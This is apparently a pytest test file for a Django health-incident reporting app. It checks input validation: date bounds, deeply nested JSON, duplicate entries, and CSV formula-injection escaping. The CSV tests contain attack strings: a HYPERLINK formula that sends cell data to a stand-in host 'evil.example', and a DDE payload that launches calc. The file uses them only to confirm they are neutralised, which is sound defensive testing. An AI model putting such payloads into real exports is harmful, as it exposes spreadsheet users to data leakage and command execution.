"""Never a 500, bounded dates, no duplicates, CSV formula injection (issue 9).

Each case failed before: a 500 (OverflowError, RecursionError), a year-0001 date or a
duplicated system stored, a CSV cell starting with "=".
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from conftest import api_client_for, html
from django.urls import reverse
from django.utils import timezone

from vigisante.reports import services
from vigisante.reports.models import Report, ReportUpdate

pytestmark = pytest.mark.django_db

FAR = [("0001-01-01", "0001-12-31"), ("0001-01-01", "0005-06-30"), ("9998-01-01", "9999-12-31"),
       ("2024-01-01", "9999-12-31")]


@pytest.mark.parametrize("first,last", FAR)
def test_observatory_with_far_dates_is_a_clear_400(client_for, observer, analyst, first, last):
    params = {"from": first, "to": last}
    api = api_client_for(observer).get("/api/v1/observatory/", params)
    assert api.status_code == 400
    assert "from" in api.json() or "to" in api.json()
    staff = client_for(analyst)
    page = staff.get("/observatory/", params)
    assert page.status_code in (200, 400)
    assert html(page).select(".errorlist")
    assert api_client_for(analyst).get("/api/v1/observatory/", params).status_code == 400


@pytest.mark.parametrize("params", [{"received_to": "9999-12-31"},
                                    {"received_from": "0001-01-01"},
                                    {"received_from": "0001-01-01", "received_to": "9999-12-31"}])
def test_queue_with_far_dates_explains_instead_of_failing(client_for, analyst, params):
    response = client_for(analyst).get(reverse("triage:queue"), params)
    assert response.status_code in (200, 400)
    assert html(response).select(".errorlist")


def _deep(n=1000):
    return "[" * n + "]" * n


def test_json_nested_1000_deep_is_a_400_on_every_json_endpoint(report_a, reporter_a, analyst):
    reporter = api_client_for(reporter_a)
    staff = api_client_for(analyst)
    pk = report_a.pk
    calls = [
        (reporter, "post", "/api/v1/reports/"),
        (reporter, "patch", f"/api/v1/reports/{pk}/notification/"),
        (reporter, "patch", f"/api/v1/reports/{pk}/final/"),
        (reporter, "post", f"/api/v1/reports/{pk}/updates/"),
        (staff, "post", "/api/v1/triage/cases/acknowledge/"),
        (staff, "post", f"/api/v1/triage/cases/{pk}/notes/"),
        (staff, "post", f"/api/v1/triage/cases/{pk}/messages/"),
        (staff, "post", f"/api/v1/triage/cases/{pk}/qualify/"),
        (staff, "post", f"/api/v1/triage/cases/{pk}/transition/"),
        (staff, "post", f"/api/v1/triage/cases/{pk}/assign/"),
        (staff, "post", f"/api/v1/triage/cases/{pk}/support/"),
    ]
    before = (Report.objects.count(), ReportUpdate.objects.count())
    for client, method, url in calls:
        response = getattr(client, method)(url, data=_deep(), content_type="application/json")
        assert response.status_code == 400, (url, response.status_code)
        assert "nested too deeply" in json.dumps(response.json()), url
        idem = getattr(client, method)(url, data=_deep(5000), content_type="application/json",
                                       HTTP_IDEMPOTENCY_KEY="deep-1")
        assert idem.status_code in (400, 405), url
    assert (Report.objects.count(), ReportUpdate.objects.count()) == before


# ---------------------------------------------------------------- bounded dates, duplicates


def test_timeline_entry_cannot_be_dated_year_one(report_a, reporter_a):
    api = api_client_for(reporter_a)
    url = f"/api/v1/reports/{report_a.pk}/updates/"
    for value in ("0001-01-01T00:00:00Z", "1900-01-01T00:00:00Z"):
        response = api.post(url, {"text": "t", "created_at": value}, format="json")
        assert response.status_code == 400
        assert "before the incident was found" in response.json()["created_at"][0]
    assert not ReportUpdate.objects.filter(report=report_a).exists()
    ok = api.post(url, {"text": "t", "created_at": timezone.now().isoformat()}, format="json")
    assert ok.status_code == 201


@pytest.mark.parametrize("field,value", [
    ("degraded_since", "0001-01-01T00:00:00Z"), ("degraded_until", "0001-01-01T00:00:00Z"),
    ("complaint_filed_on", "0001-01-01"), ("dpa_notified_on", "1999-12-31"),
    ("degraded_since", "2000-01-01T00:00:00Z"),
])
def test_notification_dates_have_a_lower_bound(report_a, reporter_a, field, value):
    api = api_client_for(reporter_a)
    data = {field: value}
    if field == "degraded_until":
        data["degraded_since"] = "0001-01-01T00:00:00Z"
    response = api.patch(f"/api/v1/reports/{report_a.pk}/notification/", data, format="json")
    assert response.status_code == 400
    assert field in response.json() or "degraded_since" in response.json()
    report_a.refresh_from_db()
    assert getattr(report_a, field) in (None, "")


def test_an_outage_may_start_a_little_before_the_discovery(report_a, reporter_a):
    since = report_a.discovered_at - timezone.timedelta(days=2)
    report = services.save_notification(actor=reporter_a, report_id=report_a.pk,
                                        data={"operations_impact": "degraded",
                                              "degraded_since": since})
    assert report.degraded_since == since


def test_duplicate_systems_are_refused(report_a, reporter_a):
    api = api_client_for(reporter_a)
    response = api.patch(f"/api/v1/reports/{report_a.pk}/notification/",
                         {"systems_hit": ["dpi"] * 12}, format="json")
    assert response.status_code == 400
    assert "dpi" in response.json()["systems_hit"][0]
    report_a.refresh_from_db()
    assert not report_a.systems_hit


def test_web_form_refuses_a_year_one_complaint_date(client_for, report_a, reporter_a):
    client = client_for(reporter_a)
    url = f"/reports/{report_a.pk}/notification/"
    response = client.post(url, {"complaint_filed_on": "0001-01-01", "action": "draft",
                                 "version": report_a.version})
    assert response.status_code in (200, 400)
    assert "before the incident was found" in html(response).select_one(
        ".field-error").get_text()
    report_a.refresh_from_db()
    assert report_a.complaint_filed_on is None


# ---------------------------------------------------------------- CSV formula injection


def test_csv_cells_that_look_like_formulas_are_neutralised():
    from vigisante.core.csvsafe import cell

    for text in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx",
                 '=HYPERLINK("http://evil.example/?x="&A1,"Click")'):
        assert cell(text) == "'" + text
    assert cell(-3) == "-3" and cell(2.5) == "2.5" and cell(None) == "" and cell("ok") == "ok"


@pytest.mark.django_db(transaction=True)  # the real worker closes a connection left in a
# transaction (close_old_connections): on PostgreSQL the test must not run inside one
def test_observatory_internal_csv_neutralises_reporter_text(client_for, reporter_a, analyst,
                                                             report_a, run_tasks):
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    narrative = "=cmd|' /C calc'!A0"
    services.save_notification(
        actor=reporter_a, report_id=report_a.pk, complete=True,
        data={"operations_impact": "partial", "supplier_involved": True,
              "supplier_name": payload, "patient_danger": "actual",
              "patient_danger_narrative": narrative})
    from vigisante.observatory.models import Snapshot

    year = timezone.localdate().year
    staff = client_for(analyst)
    staff.get("/observatory/", {"year": year, "view": "internal"})  # queued for the worker
    run_tasks()
    snap = Snapshot.objects.get(state="done")
    cells = []
    for table in ("07_by_supplier", "09_narratives"):
        response = staff.get(f"/observatory/snapshots/{snap.pk}/tables/{table}.csv")
        assert response.status_code == 200, table
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells += [c for row in rows for c in row]
    assert "'" + payload in cells
    assert "'" + narrative in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
